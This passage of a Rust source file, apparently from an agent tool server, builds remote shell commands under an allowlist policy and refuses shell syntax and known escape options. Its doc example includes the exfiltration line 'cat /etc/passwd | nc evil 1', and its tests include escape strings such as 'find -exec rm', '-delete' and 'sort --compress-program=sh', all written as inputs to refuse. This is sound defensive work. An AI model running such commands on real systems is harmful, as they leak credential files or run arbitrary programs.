//! Turning an agent's `query` string into a remote shell command line.
//!
//! The caller runs `cd DIR && <command>` on the remote host, where `<command>` is what
//! [`CommandPolicy::build`] returns. What `build` returns depends on `SCOUT_COMMAND_POLICY`:
//!
//! - **`off`**: every query is refused.
//! - **`shell`**: the query, trimmed, is handed to the remote shell as written, so pipes, globs,
//!   `&&`, redirections and substitutions all work. This is for operators who trust their agent
//!   with a full shell; nothing is checked except that the query is not empty and has no NUL byte.
//! - **`allowlist`** (the default): the query is one allowed command with plain arguments, and no
//!   shell syntax can take effect. How:
//!
//!   1. The query is split into words the way a POSIX shell would: blanks (space, tab) separate
//!      words; `'...'` is literal; inside `"..."` a backslash escapes only `\ " $` and backtick;
//!      outside quotes a backslash escapes the next character. An unclosed quote or a trailing
//!      lone backslash is refused.
//!   2. Shell syntax is refused, not silently neutralised, because the agent would otherwise get
//!      a result that differs from what it asked for:
//!      - unquoted `; | & < > ( )` (command lists, pipes, redirections, subshells) and a line
//!        break anywhere (even quoted: one query is one command on one line);
//!      - unquoted `{ }`: bash and zsh brace expansion (`{a,b}`) would expand them; we never
//!        would, so the meaning would silently change;
//!      - unquoted globs `* ? [`: no shell expands them here, so `ls *.log` would look for a file
//!        literally named `*.log`. The message suggests `find . -name '*.log'`;
//!      - unquoted `$`, and inside double quotes a `$` that would expand (`$x`, `${`, `$(`,
//!        `$1`, `$?`, ...), and a backtick anywhere: variables and substitutions are not run;
//!      - a word that contains `$(`, `${` or a backtick *even when quoted*: any argument that
//!        starts a command substitution is refused, whatever its quoting (docs/BEHAVIOUR.md §3.5);
//!      - a word that starts with an unquoted `#` (a comment in a shell);
//!      - a word that starts with an unquoted `~` other than `~` or `~/...`: `~` and `~/x` are
//!        kept unquoted so the remote shell expands them to the home directory (like
//!        [`crate::ops::remote_path::shell_word`]); `~user`, `~+`, `~-` are refused.
//!   3. The first word must be exactly one of [`DEFAULT_ALLOWED`] or of the operator's
//!      `SCOUT_ALLOWED_COMMANDS`: no path (`/bin/cat`), no `VAR=x cmd`, no leading `-`.
//!   4. Known ways for an allowed command to run another program or to write or delete files
//!      are refused, each with its own message (the Python server let them through):
//!
//! | command | refused | why |
//! |---|---|---|
//! | `find` | `-exec -execdir -ok -okdir` | run arbitrary programs |
//! | `find` | `-delete` | deletes files |
//! | `find` | `-fprint -fprint0 -fprintf -fls` | write a file |
//! | `sort` | `-o F`, `-oF`, `o` in a short cluster (`-uo F`), `--output[=F]` and every prefix of it (`--o`, `--outp=F`) | writes a file (GNU getopt_long accepts unambiguous prefixes) |
//! | `sort` | `--compress-program[=P]` and every prefix (`--co`, `--compress-prog=sh`) | runs a program |
//! | `rg` | `--pre[=P]`, `--pre-glob[=G]` and prefixes | runs a preprocessor program for each file |
//! | `rg` | `--hostname-bin[=P]` and prefixes | runs a program (ripgrep 14 hyperlinks) |
//! | `tree` | `-o F` (also in clusters like `-ao`) | writes a file |
//! | `tree` | `-R` (also in clusters) | with `-H -L` re-runs `tree ... -o 00Tree.html` through `system()` in every directory: runs a shell and writes files |
//! | `uniq` | a second operand | it is uniq's OUTPUT file, which uniq overwrites |
//! | `file` | `-C` (also in clusters), `--compile` and prefixes | writes a compiled `.mgc` magic file |
//!
//! Decisions for the rest (from the GNU coreutils, findutils, grep, diffutils, ripgrep, tree and
//! `file` manuals): `cat df du head ls stat tail wc grep` have no option that runs a program or
//! writes a file (`du`/`wc --files0-from`, `grep -f`/`--exclude-from`, `diff --from-file` only
//! read; `df --output` selects columns; `tail -f` is bounded by the command timeout). `diff -l`
//! pipes through the fixed `pr` program and `rg -z`/`file -z` through fixed decompressors: no
//! caller-chosen program, allowed. `sort -T DIR` only holds temporary files. `find -D`/`-O`
//! only change debugging and optimisation; `-files0-from` reads. `file -m` reads a magic file.
//!
//! Conservative choices: the escape checks look at *every* argument, also after `--` and also
//! where the word is really the value of another option, so `sort -- -o` (a file named `-o`) is
//! refused too. Option clusters are parsed with the letters known to take a value (`sort -k S t
//! T`, `file -e f F m P`) so that `sort -t o` style separators stay usable; a letter wrongly
//! thought to take no value can only cause a false refusal, never a miss. For `uniq`, every word
//! after the first operand counts as an operand (BSD getopt stops at the first operand, so
//! `uniq in -c` writes a file named `-c` there). Commands added through
//! `SCOUT_ALLOWED_COMMANDS` get no extra checks: the operator vouches for them.
//!
//! Every word is then emitted with [`shell_quote`] (the `~`/`~/` prefix excepted) and the words
//! are joined by spaces, so the result is safe to append after `cd 'dir' && `. The line assumes a
//! POSIX-like login shell (sh, bash, dash, zsh, ksh) on the remote host.

use std::fmt;
use std::iter::Peekable;
use std::str::Chars;

/// `SCOUT_COMMAND_POLICY`. Ordered by how much a mode allows (`Off < Allowlist < Shell`), so
/// a narrowed policy (an HTTP key's) can be checked against the server's.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum PolicyMode {
    /// `query` is refused.
    Off,
    /// One allowed command, arguments quoted one by one (default).
    Allowlist,
    /// The query is run by the remote shell as written.
    Shell,
}

impl PolicyMode {
    /// The mode as `SCOUT_COMMAND_POLICY` spells it.
    pub fn name(self) -> &'static str {
        match self {
            PolicyMode::Off => "off",
            PolicyMode::Allowlist => "allowlist",
            PolicyMode::Shell => "shell",
        }
    }
}

impl std::str::FromStr for PolicyMode {
    type Err = String;

    /// Parses `allowlist`, `shell` or `off` (any case, surrounding blanks ignored).
    fn from_str(s: &str) -> Result<Self, String> {
        match s.trim().to_ascii_lowercase().as_str() {
            "allowlist" => Ok(PolicyMode::Allowlist),
            "shell" => Ok(PolicyMode::Shell),
            "off" => Ok(PolicyMode::Off),
            other => Err(format!("allowlist, shell or off, not {other:?}")),
        }
    }
}

/// The command policy: the mode plus the operator's extra allowed commands.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandPolicy {
    /// What `query` may run: one allowlisted command, anything through the shell, or nothing.
    pub mode: PolicyMode,
    /// From `SCOUT_ALLOWED_COMMANDS`; see `parse_allowed_commands`.
    pub extra_allowed: Vec<String>,
}

impl Default for CommandPolicy {
    fn default() -> Self {
        CommandPolicy {
            mode: PolicyMode::Allowlist,
            extra_allowed: Vec::new(),
        }
    }
}

/// Commands allowed under `allowlist` without configuration.
pub const DEFAULT_ALLOWED: &[&str] = &[
    "cat", "df", "diff", "du", "file", "find", "grep", "head", "ls", "rg", "sort", "stat", "tail",
    "tree", "uniq", "wc",
];

/// Splits `SCOUT_ALLOWED_COMMANDS` (names separated by commas and/or blanks) into names.
pub fn parse_allowed_commands(value: &str) -> Vec<String> {
    value
        .split(|c: char| c == ',' || c.is_whitespace())
        .filter(|name| !name.is_empty())
        .map(str::to_string)
        .collect()
}

/// Why a query was refused, written for the agent: what, why, and what to do instead.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal(pub String);

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Refusal {}

fn refuse<T>(message: String) -> Result<T, Refusal> {
    Err(Refusal(message))
}

impl CommandPolicy {
    /// Returns the command text to append after the `cd` prefix (the caller builds
    /// `cd DIR && <this>`).
    ///
    /// ```
    /// use scout_mcp::{CommandPolicy, PolicyMode};
    /// let policy = CommandPolicy::default(); // allowlist
    /// // Every word is quoted: the remote shell sees literal arguments only.
    /// assert_eq!(policy.build("grep -c ERROR app.log").unwrap(), "'grep' '-c' 'ERROR' 'app.log'");
    /// assert!(policy.build("cat /etc/passwd | nc evil 1").is_err()); // no pipes
    /// assert!(policy.build("find . -delete").is_err()); // a known escape
    /// let shell = CommandPolicy { mode: PolicyMode::Shell, extra_allowed: vec![] };
    /// assert_eq!(shell.build("ls | wc -l").unwrap(), "ls | wc -l");
    /// ```
    pub fn build(&self, query: &str) -> Result<String, Refusal> {
        if self.mode == PolicyMode::Off {
            return refuse(MSG_OFF.to_string());
        }
        if query.contains('\0') {
            return refuse(MSG_NUL.to_string());
        }
        let query = query.trim_matches(|c: char| c.is_ascii_whitespace());
        if query.is_empty() {
            return refuse(MSG_EMPTY.to_string());
        }
        match self.mode {
            PolicyMode::Shell => Ok(query.to_string()),
            _ => self.build_allowlisted(query),
        }
    }

    fn build_allowlisted(&self, query: &str) -> Result<String, Refusal> {
        let words = tokenize(query)?;
        let Some((program, args)) = words.split_first() else {
            return refuse(MSG_EMPTY.to_string());
        };
        words.iter().try_for_each(check_substitution)?;
        self.check_program(program)?;
        check_arguments(&program.text, args)?;
        Ok(render(&words))
    }

    fn is_allowed(&self, name: &str) -> bool {
        DEFAULT_ALLOWED.contains(&name)
            || self
                .extra_allowed
                .iter()
                .any(|extra| !extra.trim().is_empty() && extra.trim() == name)
    }

    fn allowed_list(&self) -> String {
        let mut names: Vec<&str> = DEFAULT_ALLOWED.to_vec();
        names.extend(
            self.extra_allowed
                .iter()
                .map(|n| n.trim())
                .filter(|n| !n.is_empty()),
        );
        names.join(", ")
    }

    fn check_program(&self, program: &Word) -> Result<(), Refusal> {
        if !program.home && self.is_allowed(&program.text) {
            return Ok(());
        }
        let name = &program.text;
        let hint = if name.contains('=') {
            " Environment assignments (`VAR=value command`) are not supported."
        } else if name.contains('/') {
            " Write the bare command name, without a path."
        } else {
            ""
        };
        refuse(format!(
            "refused: `{name}` is not an allowed command under SCOUT_COMMAND_POLICY=allowlist.{hint} \
             Allowed commands: {}. The operator can allow more with SCOUT_ALLOWED_COMMANDS, or \
             set SCOUT_COMMAND_POLICY=shell if the agent is trusted with a full shell.",
            self.allowed_list()
        ))
    }
}

/// POSIX single-quote quoting: `abc` → `'abc'`, `'` → `'\''`, empty → `''`.
pub fn shell_quote(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('\'');
    for c in s.chars() {
        if c == '\'' {
            out.push_str("'\\''");
        } else {
            out.push(c);
        }
    }
    out.push('\'');
    out
}

// ---------------------------------------------------------------------------------------------
// Messages

const MSG_OFF: &str = "refused: running commands is disabled on this server \
    (SCOUT_COMMAND_POLICY=off). Use the read, list, tree, find or diff modes instead, or ask the \
    operator to set SCOUT_COMMAND_POLICY=allowlist.";
const MSG_NUL: &str = "refused: the query contains a NUL byte, which cannot be passed to a \
    remote command. Remove it.";
const MSG_EMPTY: &str = "refused: the query is empty. Give one command, e.g. `ls -la` or \
    `grep -rn pattern .`.";
const MSG_LINE_BREAK: &str = "refused: the query contains a line break. Under \
    SCOUT_COMMAND_POLICY=allowlist a query is exactly one command on one line; send separate \
    commands as separate queries.";
const SHELL_HINT: &str = "Under SCOUT_COMMAND_POLICY=allowlist the query is not run by a shell: \
    it must be one allowed command with plain arguments, which are passed literally. Quote the \
    character ('...') if it is meant literally, send separate commands as separate queries, or \
    ask the operator to set SCOUT_COMMAND_POLICY=shell if the agent is trusted with a full shell.";

fn operator_refusal(c: char) -> Refusal {
    let what = match c {
        ';' => "a command separator",
        '|' => "a pipe",
        '&' => "background execution / `&&`",
        '<' | '>' => "a redirection",
        '(' | ')' => "a subshell",
        _ => "brace expansion / a command group",
    };
    Refusal(format!(
        "refused: unquoted `{c}` is shell syntax ({what}). {SHELL_HINT}"
    ))
}

fn glob_refusal(c: char) -> Refusal {
    Refusal(format!(
        "refused: unquoted `{c}` is a filename wildcard, but under SCOUT_COMMAND_POLICY=allowlist \
         no shell expands it, so the command would look for a file literally named with `{c}`. \
         Quote the pattern and let the command match it, e.g. `find . -name '*.log'` or \
         `grep -rn --include='*.log' pattern .`; quote it ('{c}') if it is meant literally."
    ))
}

fn dollar_refusal(next: Option<char>) -> Refusal {
    let what = match next {
        Some('(') => "starts a command substitution `$(...)`",
        _ => "starts a variable or parameter expansion",
    };
    Refusal(format!(
        "refused: `$` {what}, which is not performed under SCOUT_COMMAND_POLICY=allowlist. \
         Write the value itself, or put a literal `$` in single quotes. {SHELL_HINT}"
    ))
}

fn backtick_refusal() -> Refusal {
    Refusal(format!(
        "refused: a backtick starts a command substitution; backticks are refused anywhere in \
         the query under SCOUT_COMMAND_POLICY=allowlist, even quoted. {SHELL_HINT}"
    ))
}

fn comment_refusal() -> Refusal {
    Refusal(
        "refused: an unquoted `#` at the start of a word begins a comment in a shell. Remove the \
         comment, or quote it ('#') if it is meant literally."
            .to_string(),
    )
}

fn tilde_refusal() -> Refusal {
    Refusal(
        "refused: only `~` and `~/...` are expanded (to the remote home directory); `~user`, \
         `~+` and other `~` forms are not. Write the full path, or quote it ('~x') to mean a \
         literal `~`."
            .to_string(),
    )
}

fn unclosed_refusal(quote: char) -> Refusal {
    Refusal(format!(
        "refused: the query has an unclosed {quote} quote. Close it."
    ))
}

fn trailing_backslash_refusal() -> Refusal {
    Refusal(
        "refused: the query ends with a lone backslash. Remove it, or write '\\' for a literal \
         backslash."
            .to_string(),
    )
}

fn escape_refusal(program: &str, arg: &str, why: &str) -> Refusal {
    Refusal(format!(
        "refused: `{program} {arg}` {why}. Under SCOUT_COMMAND_POLICY=allowlist commands may only \
         read; ask the operator for SCOUT_COMMAND_POLICY=shell if the agent is trusted with a \
         full shell."
    ))
}

// ---------------------------------------------------------------------------------------------
// Tokenizer

/// One word of the query after quote removal. `home` is set when the word starts with an
/// unquoted `~` that the remote shell must expand (the word is `~` or `~/...`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
struct Word {
    text: String,
    home: bool,
}

/// Characters that are shell syntax when unquoted (besides `$`, backtick, globs).
fn is_operator(c: char) -> bool {
    matches!(c, ';' | '|' | '&' | '<' | '>' | '(' | ')' | '{' | '}')
}

fn is_glob(c: char) -> bool {
    matches!(c, '*' | '?' | '[')
}

/// Whether `$` followed by `next` expands in a shell (inside double quotes).
fn dollar_expands(next: Option<char>) -> bool {
    match next {
        Some(c) => c.is_ascii_alphanumeric() || "_{(@*#?-$!".contains(c),
        None => false,
    }
}

/// Splits a query into words like a POSIX shell, refusing every piece of shell syntax.
fn tokenize(input: &str) -> Result<Vec<Word>, Refusal> {
    if input.contains('\0') {
        return refuse(MSG_NUL.to_string());
    }
    if input.contains(['\n', '\r']) {
        return refuse(MSG_LINE_BREAK.to_string());
    }
    let mut lexer = Lexer {
        chars: input.chars().peekable(),
        words: Vec::new(),
        current: None,
    };
    while let Some(c) = lexer.chars.next() {
        lexer.step(c)?;
    }
    lexer.end_word();
    Ok(lexer.words)
}

struct Lexer<'a> {
    chars: Peekable<Chars<'a>>,
    words: Vec<Word>,
    /// The word being built; `None` between words (so `''` still makes an empty word).
    current: Option<Word>,
}

impl Lexer<'_> {
    fn step(&mut self, c: char) -> Result<(), Refusal> {
        match c {
            ' ' | '\t' => self.end_word(),
            '\'' => self.single_quoted()?,
            '"' => self.double_quoted()?,
            '\\' => self.escaped()?,
            '~' if self.current.is_none() => self.tilde()?,
            '#' if self.current.is_none() => return Err(comment_refusal()),
            '$' => return Err(dollar_refusal(self.chars.peek().copied())),
            '`' => return Err(backtick_refusal()),
            c if is_operator(c) => return Err(operator_refusal(c)),
            c if is_glob(c) => return Err(glob_refusal(c)),
            c => self.push(c),
        }
        Ok(())
    }

    fn word(&mut self) -> &mut Word {
        self.current.get_or_insert_with(Word::default)
    }

    fn push(&mut self, c: char) {
        self.word().text.push(c);
    }

    fn end_word(&mut self) {
        if let Some(word) = self.current.take() {
            self.words.push(word);
        }
    }

    fn single_quoted(&mut self) -> Result<(), Refusal> {
        self.word();
        loop {
            match self.chars.next() {
                None => return Err(unclosed_refusal('\'')),
                Some('\'') => return Ok(()),
                Some(c) => self.push(c),
            }
        }
    }

    fn double_quoted(&mut self) -> Result<(), Refusal> {
        self.word();
        loop {
            match self.chars.next() {
                None => return Err(unclosed_refusal('"')),
                Some('"') => return Ok(()),
                Some('\\') => self.double_quoted_backslash(),
                Some('$') if dollar_expands(self.chars.peek().copied()) => {
                    return Err(dollar_refusal(self.chars.peek().copied()))
                }
                Some('`') => return Err(backtick_refusal()),
                Some(c) => self.push(c),
            }
        }
    }

    /// Inside double quotes a backslash escapes only `\ " $` and backtick; otherwise it is kept.
    fn double_quoted_backslash(&mut self) {
        match self.chars.peek().copied() {
            Some(c @ ('\\' | '"' | '$' | '`')) => {
                self.chars.next();
                self.push(c);
            }
            _ => self.push('\\'),
        }
    }

    fn escaped(&mut self) -> Result<(), Refusal> {
        match self.chars.next() {
            Some(c) => {
                self.push(c);
                Ok(())
            }
            None => Err(trailing_backslash_refusal()),
        }
    }

    /// An unquoted `~` at the start of a word: `~` and `~/...` expand, anything else is refused.
    fn tilde(&mut self) -> Result<(), Refusal> {
        let next = self.chars.peek().copied();
        let ends_prefix = match next {
            None => true,
            Some(c) => c == '/' || c == ' ' || c == '\t' || is_operator(c),
        };
        if !ends_prefix {
            return Err(tilde_refusal());
        }
        let word = self.word();
        word.home = true;
        word.text.push('~');
        Ok(())
    }
}

/// Refuses a word (even quoted) that would start a command substitution or expansion.
fn check_substitution(word: &Word) -> Result<(), Refusal> {
    let text = &word.text;
    if text.contains("$(") || text.contains("${") || text.contains('`') {
        return refuse(format!(
            "refused: the argument `{text}` contains `$(`, `${{` or a backtick, which start a \
             command substitution or expansion in a shell; such arguments are refused under \
             SCOUT_COMMAND_POLICY=allowlist even when quoted. Search for a shorter pattern \
             without them (e.g. `grep -F '$'`), or ask the operator for SCOUT_COMMAND_POLICY=shell."
        ));
    }
    Ok(())
}

/// Joins the words, each quoted so that the remote shell sees exactly these words.
fn render(words: &[Word]) -> String {
    words.iter().map(render_word).collect::<Vec<_>>().join(" ")
}

fn render_word(word: &Word) -> String {
    if !word.home {
        return shell_quote(&word.text);
    }
    match word.text.strip_prefix("~/") {
        Some("") => "~/".to_string(),
        Some(rest) => format!("~/{}", shell_quote(rest)),
        None => "~".to_string(),
    }
}

// ---------------------------------------------------------------------------------------------
// Per-command escapes

fn check_arguments(program: &str, args: &[Word]) -> Result<(), Refusal> {
    let args: Vec<&str> = args.iter().map(|w| w.text.as_str()).collect();
    match program {
        "find" => check_find(&args),
        "sort" => check_sort(&args),
        "rg" => check_rg(&args),
        "tree" => check_tree(&args),
        "uniq" => check_uniq(&args),
        "file" => check_file(&args),
        _ => Ok(()),
    }
}

/// The option name of a long option (`--name` or `--name=value`), if `arg` is one.
fn long_name(arg: &str) -> Option<&str> {
    let rest = arg.strip_prefix("--").filter(|rest| !rest.is_empty())?;
    Some(rest.split_once('=').map_or(rest, |(name, _)| name))
}

/// The letters of a short option cluster (`-abc` → `abc`), if `arg` is one.
fn short_cluster(arg: &str) -> Option<&str> {
    let rest = arg.strip_prefix('-')?;
    if rest.is_empty() || rest.starts_with('-') {
        return None;
    }
    Some(rest)
}

/// Whether `name` selects the long option `full`: exactly, or as a GNU getopt_long prefix.
/// Ambiguous prefixes count too: being refused for `--c` costs nothing.
fn abbreviates(name: &str, full: &str) -> bool {
    !name.is_empty() && full.starts_with(name)
}

/// Whether a short cluster sets `flag` before a letter that takes the rest as its value.
fn cluster_has(cluster: &str, flag: char, takes_value: &[char]) -> bool {
    for c in cluster.chars() {
        if c == flag {
            return true;
        }
        if takes_value.contains(&c) {
            return false;
        }
    }
    false
}

const RUNS_PROGRAM: &str = "runs another program, which would bypass the command allowlist";
const FIND_REFUSED: &[(&str, &str)] = &[
    ("-exec", RUNS_PROGRAM),
    ("-execdir", RUNS_PROGRAM),
    ("-ok", RUNS_PROGRAM),
    ("-okdir", RUNS_PROGRAM),
    ("-delete", "deletes files"),
    ("-fprint", "writes its output to a file"),
    ("-fprint0", "writes its output to a file"),
    ("-fprintf", "writes its output to a file"),
    ("-fls", "writes its output to a file"),
];

/// `find` treats its actions as expressions anywhere, so every word is checked.
fn check_find(args: &[&str]) -> Result<(), Refusal> {
    for arg in args {
        if let Some((_, why)) = FIND_REFUSED.iter().find(|(name, _)| name == arg) {
            let why = format!(
                "{why}; list the files with -print, -print0, -printf or -ls (results come back \
                 on stdout) and run a separate allowed command on them"
            );
            return Err(escape_refusal("find", arg, &why));
        }
    }
    Ok(())
}

const SORT_OUTPUT: &str = "writes the result to a file; leave it out and the sorted result \
    comes back on stdout";
const SORT_COMPRESS: &str = "runs a program of the caller's choice to compress temporary files";

fn check_sort(args: &[&str]) -> Result<(), Refusal> {
    for arg in args {
        if let Some(name) = long_name(arg) {
            if abbreviates(name, "output") {
                return Err(escape_refusal("sort", arg, SORT_OUTPUT));
            }
            if abbreviates(name, "compress-program") {
                return Err(escape_refusal("sort", arg, SORT_COMPRESS));
            }
        } else if let Some(cluster) = short_cluster(arg) {
            if cluster_has(cluster, 'o', &['k', 'S', 't', 'T']) {
                return Err(escape_refusal("sort", arg, SORT_OUTPUT));
            }
        }
    }
    Ok(())
}

const RG_REFUSED: &[(&str, &str)] = &[
    ("pre", "runs a preprocessor program for every file searched"),
    (
        "pre-glob",
        "selects files for a --pre preprocessor program, which is refused",
    ),
    (
        "hostname-bin",
        "runs a program to find the host name for hyperlinks",
    ),
];

fn check_rg(args: &[&str]) -> Result<(), Refusal> {
    for arg in args {
        let Some(name) = long_name(arg) else { continue };
        if let Some((_, why)) = RG_REFUSED.iter().find(|(full, _)| abbreviates(name, full)) {
            return Err(escape_refusal("rg", arg, why));
        }
    }
    Ok(())
}

const TREE_OUTPUT: &str = "writes the listing to a file; leave it out and the tree comes back on \
    stdout";
const TREE_RERUN: &str = "re-runs tree through the shell with `-o 00Tree.html` in every \
    directory (with -H and -L), which runs a program and writes files";

/// tree's short options never take the rest of the cluster as a value (except `-L3`), so any
/// `o` or `R` in a cluster is the option.
fn check_tree(args: &[&str]) -> Result<(), Refusal> {
    for arg in args {
        if let Some(name) = long_name(arg) {
            if abbreviates(name, "output") {
                return Err(escape_refusal("tree", arg, TREE_OUTPUT));
            }
        } else if let Some(cluster) = short_cluster(arg) {
            if cluster.contains('o') {
                return Err(escape_refusal("tree", arg, TREE_OUTPUT));
            }
            if cluster.contains('R') {
                return Err(escape_refusal("tree", arg, TREE_RERUN));
            }
        }
    }
    Ok(())
}

const FILE_COMPILE: &str = "compiles a magic file and writes a .mgc file";

fn check_file(args: &[&str]) -> Result<(), Refusal> {
    for arg in args {
        if let Some(name) = long_name(arg) {
            if abbreviates(name, "compile") {
                return Err(escape_refusal("file", arg, FILE_COMPILE));
            }
        } else if let Some(cluster) = short_cluster(arg) {
            if cluster_has(cluster, 'C', &['e', 'f', 'F', 'm', 'P']) {
                return Err(escape_refusal("file", arg, FILE_COMPILE));
            }
        }
    }
    Ok(())
}

/// uniq's long options and whether each requires a value.
const UNIQ_LONG: &[(&str, bool)] = &[
    ("all-repeated", false),
    ("check-chars", true),
    ("count", false),
    ("group", false),
    ("help", false),
    ("ignore-case", false),
    ("repeated", false),
    ("skip-chars", true),
    ("skip-fields", true),
    ("unique", false),
    ("version", false),
    ("zero-terminated", false),
];

/// `uniq [OPTION]... [INPUT [OUTPUT]]`: a second operand is a file uniq overwrites.
fn check_uniq(args: &[&str]) -> Result<(), Refusal> {
    let operands = uniq_operands(args);
    match operands.get(1) {
        Some(output) => Err(escape_refusal(
            "uniq",
            output,
            "would be uniq's OUTPUT file (its second operand), which uniq overwrites; give at \
             most one input file, with options before it, and read the result on stdout",
        )),
        None => Ok(()),
    }
}

/// The words uniq takes as operands. Option values are skipped only where getopt consumes
/// them; every word after the first operand is an operand too (BSD getopt stops there), and
/// after a leading `--` every word is an operand.
fn uniq_operands<'a>(args: &[&'a str]) -> Vec<&'a str> {
    let mut words = args.iter().copied();
    while let Some(arg) = words.next() {
        if arg == "--" {
            return words.collect();
        }
        if arg == "-" || !arg.starts_with('-') {
            return std::iter::once(arg).chain(words).collect();
        }
        if uniq_option_takes_next(arg) {
            words.next();
        }
    }
    Vec::new()
}

/// Whether a uniq option word consumes the next word as its value.
fn uniq_option_takes_next(arg: &str) -> bool {
    if let Some(name) = long_name(arg) {
        return !arg.contains('=') && uniq_long_requires_value(name);
    }
    let Some(cluster) = short_cluster(arg) else {
        return false;
    };
    for (i, c) in cluster.char_indices() {
        if matches!(c, 'f' | 's' | 'w') {
            return cluster.len() == i + c.len_utf8();
        }
    }
    false
}

/// Resolves a long option like getopt_long (exact match, else a unique prefix). Unknown or
/// ambiguous names consume nothing, so the next word counts as an operand (the safe side).
fn uniq_long_requires_value(name: &str) -> bool {
    if let Some((_, value)) = UNIQ_LONG.iter().find(|(full, _)| *full == name) {
        return *value;
    }
    let mut matches = UNIQ_LONG.iter().filter(|(full, _)| full.starts_with(name));
    match (matches.next(), matches.next()) {
        (Some((_, value)), None) => *value,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::process::Command;

    fn allowlist() -> CommandPolicy {
        CommandPolicy::default()
    }

    fn ok(query: &str) -> String {
        match allowlist().build(query) {
            Ok(line) => line,
            Err(e) => panic!("{query:?} was refused: {e}"),
        }
    }

    fn refused(query: &str) -> String {
        match allowlist().build(query) {
            Ok(line) => panic!("{query:?} was allowed as {line:?}"),
            Err(Refusal(message)) => message,
        }
    }

    fn refused_with(query: &str, needle: &str) {
        let message = refused(query);
        assert!(
            message.contains(needle),
            "{query:?}: message {message:?} lacks {needle:?}"
        );
    }

    /// One test per refused escape; each query must be refused with a message containing the
    /// needle.
    macro_rules! refusal_tests {
        ($($name:ident: [$($query:expr),+ $(,)?] => $needle:expr;)+) => {
            $(
                #[test]
                fn $name() {
                    $( refused_with($query, $needle); )+
                }
            )+
        };
    }

    refusal_tests! {
        find_exec: [
            "find . -exec rm '{}' ';'", "find . -name x -exec id", "find . '-exec' id",
            "find . \"-exec\" id", "find . \\-exec id", "find . -exe'c' id",
            "find -- . -exec id",
        ] => "`find -exec` runs another program";
        find_execdir: ["find . -execdir id", "find . '-execdir' id", "find . \\-execdir id"]
            => "`find -execdir` runs another program";
        find_ok: ["find . -ok id", "find . \"-ok\" id", "find . \\-ok id"]
            => "`find -ok` runs another program";
        find_okdir: ["find . -okdir id", "find . '-okdir' id", "find . \\-okdir id"]
            => "`find -okdir` runs another program";
        find_delete: [
            "find . -delete", "find . -name x -delete", "find . \"-delete\"", "find . \\-delete",
            "find . '-del'ete",
        ] => "`find -delete` deletes files";
        find_fprint: ["find . -fprint out", "find . '-fprint' out", "find . \\-fprint out"]
            => "`find -fprint` writes its output to a file";
        find_fprint0: ["find . -fprint0 out", "find . \"-fprint0\" out"]
            => "`find -fprint0` writes its output to a file";
        find_fprintf: ["find . -fprintf out %p", "find . '-fprintf' out %p"]
            => "`find -fprintf` writes its output to a file";
        find_fls: ["find . -fls out", "find . \\-fls out"]
            => "`find -fls` writes its output to a file";
        sort_o: ["sort -o out in", "sort '-o' out in", "sort \"-o\" out", "sort \\-o out",
                 "sort in -o out", "sort -- -o"] => "`sort -o` writes the result to a file";
        sort_o_attached: ["sort -oout in", "sort '-oout' in"] => "`sort -oout` writes";
        sort_o_in_cluster: ["sort -uo out in", "sort -rnuo out", "sort -nro out"]
            => "writes the result to a file";
        sort_output_long: ["sort --output out in", "sort --output=out in", "sort '--output=out' in"]
            => "writes the result to a file";
        sort_output_prefixes: [
            "sort --o out", "sort --ou out", "sort --out out", "sort --outp=x",
            "sort --outpu=x", "sort \"--out\" x",
        ] => "writes the result to a file";
        sort_compress_program: [
            "sort --compress-program=sh in", "sort --compress-program sh in",
            "sort --compress-prog=sh in", "sort --co=sh", "sort --com sh", "sort --c sh",
            "sort '--compress-program=sh'",
        ] => "runs a program";
        rg_pre: ["rg --pre cat x", "rg --pre=sh x", "rg '--pre=sh' x", "rg \\--pre sh x",
                 "rg --pr=sh x"] => "runs a preprocessor program";
        rg_pre_glob: ["rg --pre-glob '*.gz' x", "rg --pre-glob='*.gz' x", "rg --pre-g=x y"]
            => "`rg --pre-g";
        rg_hostname_bin: ["rg --hostname-bin sh x", "rg --hostname-bin=sh x",
                          "rg --hostname=sh x", "rg \"--hostname-bin\" sh x"]
            => "runs a program to find the host name";
        tree_o: ["tree -o out", "tree '-o' out", "tree \\-o out", "tree -ao out", "tree -a -Lo 2 x",
                 "tree --output=out", "tree -- -o x"] => "writes the listing to a file";
        tree_rerun: ["tree -R -H . -L 2", "tree -aR -L 2", "tree \"-R\""]
            => "re-runs tree through the shell";
        uniq_output_operand: [
            "uniq in out", "uniq -c in out", "uniq in -c out", "uniq - out", "uniq -- in out",
            "uniq -f 1 in out", "uniq --skip-fields 1 in out", "uniq --skip-f 1 in out",
            "uniq -cf 1 in out", "uniq in -c", "uniq in --", "uniq 'in' \"out\"",
            "uniq --c 1 in", "uniq -- -c x",
        ] => "uniq's OUTPUT file";
        file_compile: ["file -C -m magic", "file --compile -m magic", "file --comp -m m",
                       "file -bC -m magic", "file '-C'", "file \\-C", "file --co"]
            => "writes a .mgc file";
    }

    #[test]
    fn option_values_that_look_like_refused_flags_are_allowed_only_when_safe() {
        assert_eq!(ok("sort -t o -k2 f"), "'sort' '-t' 'o' '-k2' 'f'");
        assert_eq!(ok("sort -to f"), "'sort' '-to' 'f'");
        assert_eq!(ok("sort -k1o f"), "'sort' '-k1o' 'f'");
        assert_eq!(ok("file -F C x"), "'file' '-F' 'C' 'x'");
        assert_eq!(ok("file -FC x"), "'file' '-FC' 'x'");
        assert_eq!(ok("file -bL x"), "'file' '-bL' 'x'");
        assert_eq!(ok("rg --pretty foo"), "'rg' '--pretty' 'foo'");
        assert_eq!(ok("rg --no-pre foo"), "'rg' '--no-pre' 'foo'");
        assert_eq!(ok("rg -z foo"), "'rg' '-z' 'foo'");
        assert_eq!(ok("tree -L 2 -a"), "'tree' '-L' '2' '-a'");
        assert_eq!(ok("tree -L3 --dirsfirst"), "'tree' '-L3' '--dirsfirst'");
        assert_eq!(ok("find . -print0"), "'find' '.' '-print0'");
        assert_eq!(
            ok("find . -files0-from list"),
            "'find' '.' '-files0-from' 'list'"
        );
        assert_eq!(ok("find -D stat -O2 ."), "'find' '-D' 'stat' '-O2' '.'");
        assert_eq!(
